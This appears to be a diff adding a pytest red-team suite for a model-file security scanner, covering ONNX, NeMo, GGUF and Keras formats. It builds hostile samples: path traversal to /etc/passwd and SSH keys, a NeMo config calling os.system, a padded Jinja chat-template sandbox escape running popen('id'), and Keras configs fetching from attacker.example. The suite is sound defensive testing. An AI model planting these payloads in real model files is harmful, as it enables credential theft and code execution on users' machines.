@@ -1,0 +1,195 @@
+"""Red-team round on the formats beyond pickle: what the loaders act on that round one missed.
+
+Each family is built with the real writers (`onnx`, `gguf`, tarfile, zipfile) and confirmed
+against the loader's behaviour in the test's docstring; nothing is ever loaded.
+
+- ONNX that onnxruntime refuses but `onnx.load` reads with its external data all the same
+  (no `ir_version`, or one outside any runtime's range), with or without a `.onnx` name;
+  onnxruntime's in-memory marker `*/_ORT_MEM_ADDR_/*` as a location (its `offset` is read as a
+  pointer); an `EPContext` node whose cache or model file lies outside the directory.
+- NeMo: `model_config.yaml` behind hundreds of other members (NeMo extracts them all).
+- GGUF: a chat template padded past the analyser's limit.
+- Keras: file-reading keys of lookup layers and keras_hub tokenizers (`vocabulary`, `merges`,
+  `proto`) on any class, `IndexLookup` by its `keras.src` module; Keras-internal functions that
+  read, write or download, named by `module` + `class_name: function` (a Lambda calls them
+  with the config's `arguments`).
+"""
+
+from __future__ import annotations
+
+import io
+import json
+import logging
+import tarfile
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from modelscan_core import scan_path
+from modelscan_core.model import Severity
+
+HIGH = Severity.HIGH
+
+
+def top(path: Path) -> Severity | None:
+    return max((f.severity for f in scan_path(path).findings()), default=None)
+
+
+# -- ONNX -----------------------------------------------------------------------------------
+
+onnx = pytest.importorskip("onnx")
+from onnx import TensorProto, helper  # noqa: E402
+
+
+def _ext(location: str) -> TensorProto:
+    t = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[4], data_location=TensorProto.EXTERNAL)
+    for key, value in (("location", location), ("offset", "4096"), ("length", "16")):
+        entry = t.external_data.add()
+        entry.key, entry.value = key, value
+    return t
+
+
+def _model(nodes=None, inits=(), domains=()):
+    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])
+    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])
+    nodes = nodes or [helper.make_node("Add", ["x", "w"], ["y"])]
+    graph = helper.make_graph(nodes, "g", [x], [y], initializer=list(inits))
+    return helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)] + [helper.make_opsetid(d, 1) for d in domains])
+
+
+@pytest.mark.parametrize("ir", [None, 0, 1000])
+@pytest.mark.parametrize("name", ["model.onnx", "blob"])
+def test_a_model_onnxruntime_refuses_is_still_read_as_onnx_load_reads_it(tmp_path, ir, name):
+    m = _model(inits=[_ext("../../../etc/passwd")])
+    if ir is None:
+        m.ClearField("ir_version")
+    else:
+        m.ir_version = ir
+    path = tmp_path / name
+    path.write_bytes(m.SerializeToString())
+    assert top(path) == HIGH
+
+
+def test_onnxruntime_in_memory_marker_in_a_file_is_high(tmp_path):
+    path = tmp_path / "m.onnx"
+    onnx.save(_model(inits=[_ext("*/_ORT_MEM_ADDR_/*")]), path)
+    found = scan_path(path).findings()
+    assert [f.severity for f in found] == [HIGH] and "memory address" in found[0].description
+
+
+def _ep_context(**attrs):
+    node = helper.make_node("EPContext", ["x"], ["y"], domain="com.microsoft", source="QNNExecutionProvider", **attrs)
+    return _model([node], domains=["com.microsoft"])
+
+
+@pytest.mark.parametrize("attrs", [
+    {"embed_mode": 0, "ep_cache_context": "../../../root/.ssh/id_rsa"},
+    {"embed_mode": 0, "ep_cache_context": "/etc/passwd"},
+    {"embed_mode": 1, "ep_cache_context": b"blob", "onnx_model_filename": "C:\\models\\x.onnx"},
+])
+def test_ep_context_files_outside_the_directory_are_high(tmp_path, attrs):
+    path = tmp_path / "ctx.onnx"
+    onnx.save(_ep_context(**attrs), path)
+    assert top(path) == HIGH
+
+
+@pytest.mark.parametrize("attrs", [
+    {"embed_mode": 0, "ep_cache_context": "model_ctx_QNN.bin"},
+    {"embed_mode": 1, "ep_cache_context": b"\x00\x01../../compiled bytes"},
+])
+def test_ep_context_with_a_sibling_or_embedded_cache_is_clean(tmp_path, attrs):
+    path = tmp_path / "ctx.onnx"
+    onnx.save(_ep_context(**attrs), path)
+    assert scan_path(path).exit_code == 0
+
+
+def test_other_protobufs_without_a_graph_are_not_claimed_as_onnx(tmp_path):
+    from modelscan_core.scanners.onnx import sniff_onnx
+
+    sentencepiece_like = b"\x0a\x05\x0a\x01a\x15\x00\x00\x00\x00" * 3 + b"\x12\x02\x08\x01"
+    path = tmp_path / "tokenizer.model"
+    path.write_bytes(sentencepiece_like)
+    with open(path, "rb") as f:
+        assert not sniff_onnx(sentencepiece_like, "tokenizer.model", f)
+
+
+# -- NeMo -----------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["padded.nemo", "blob"])
+def test_a_nemo_config_behind_many_members_is_found(tmp_path, name):
+    config = b"target: nemo.collections.asr.models.EncDecCTCModelBPE\nencoder:\n  _target_: os.system\n  command: id\n"
+    path = tmp_path / name
+    with tarfile.open(path, "w:") as tar:
+        for i, (member, data) in enumerate([(f"./pad_{i}.txt", b"x") for i in range(400)] + [("./model_config.yaml", config)]):
+            info = tarfile.TarInfo(member)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    assert top(path) == Severity.CRITICAL
+
+
+# -- GGUF -----------------------------------------------------------------------------------
+
+
+def test_a_chat_template_padded_past_the_analysed_length_is_high(tmp_path):
+    gguf = pytest.importorskip("gguf")
+    from modelscan_core.scanners.gguf import MAX_TEMPLATE
+
+    logging.getLogger("gguf").setLevel(logging.ERROR)
+    path = tmp_path / "m.gguf"
+    w = gguf.GGUFWriter(str(path), "llama")
+    w.add_chat_template("{# " + "x" * MAX_TEMPLATE + " #}{{ cycler.__init__.__globals__.os.popen('id').read() }}")
+    w.add_string("tokenizer.chat_template.tool_use", "{{ lipsum.__globals__ }}")  # read after it all the same
+    w.write_header_to_file()
+    w.write_kv_data_to_file()
+    w.write_tensors_to_file()
+    w.close()
+    report = scan_path(path)
+    rules = {f.rule_id for f in report.findings()}
+    assert {"gguf/chat-template-oversized", "gguf/chat-template-attribute"} <= rules
+    assert report.all_errors() and report.all_errors()[0].incomplete
+
+
+# -- Keras ----------------------------------------------------------------------------------
+
+
+def _keras(path: Path, layer: dict) -> Path:
+    config = {"module": "keras", "class_name": "Sequential", "registered_name": None, "config": {"name": "s", "layers": [
+        {"module": "keras.layers", "class_name": "InputLayer", "config": {"batch_shape": [None, 4], "name": "in"},
+         "registered_name": None}, layer]}}
+    with zipfile.ZipFile(path, "w") as z:
+        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
+        z.writestr("config.json", json.dumps(config))
+    return path
+
+
+@pytest.mark.parametrize("layer", [
+    {"module": "keras.src.layers.preprocessing.index_lookup", "class_name": "IndexLookup",
+     "config": {"name": "il", "vocabulary": "/etc/passwd", "num_oov_indices": 1, "mask_token": None, "oov_token": "[UNK]"}},
+    {"module": "keras_hub.tokenizers", "class_name": "WordPieceTokenizer", "config": {"name": "t", "vocabulary": "/etc/passwd"},
+     "registered_name": "keras_hub>WordPieceTokenizer"},
+    {"module": "keras_hub.tokenizers", "class_name": "BytePairTokenizer", "registered_name": "keras_hub>BytePairTokenizer",
+     "config": {"name": "t", "vocabulary": None, "merges": "/root/.ssh/id_rsa"}},
+    {"module": "keras_hub.tokenizers", "class_name": "SentencePieceTokenizer", "registered_name": "keras_hub>SentencePieceTokenizer",
+     "config": {"name": "t", "proto": "https://attacker.example/spm.model"}},
+    {"module": "keras.layers", "class_name": "Lambda", "config": {"name": "l", "arguments": {"origin": "https://attacker.example/x"},
+     "function": {"module": "keras.src.utils.file_utils", "class_name": "function", "config": "extract_archive",
+                  "registered_name": None}}},
+    {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 4, "activation": {
+        "module": "keras.src.utils.python_utils", "class_name": "function", "config": "func_load", "registered_name": None}}},
+])
+def test_keras_objects_that_read_files_or_reach_effect_functions_are_high(tmp_path, layer):
+    assert top(_keras(tmp_path / "m.keras", layer)) >= HIGH
+
+
+def test_keras_lookup_and_tokenizer_configs_as_keras_saves_them_are_clean(tmp_path):
+    layers = [
+        {"module": "keras.layers", "class_name": "StringLookup", "config": {"name": "s", "vocabulary": ["a", "b"]}},
+        {"module": "keras_hub.tokenizers", "class_name": "WordPieceTokenizer", "config": {"name": "t", "vocabulary": None},
+         "registered_name": "keras_hub>WordPieceTokenizer"},
+        {"module": "keras.layers", "class_name": "Dense", "config": {"name": "d", "units": 4, "activation": {
+            "module": "keras.src.activations.activations", "class_name": "function", "config": "relu", "registered_name": None}}},
+    ]
+    for i, layer in enumerate(layers):
+        assert scan_path(_keras(tmp_path / f"ok{i}.keras", layer)).exit_code == 0, layer
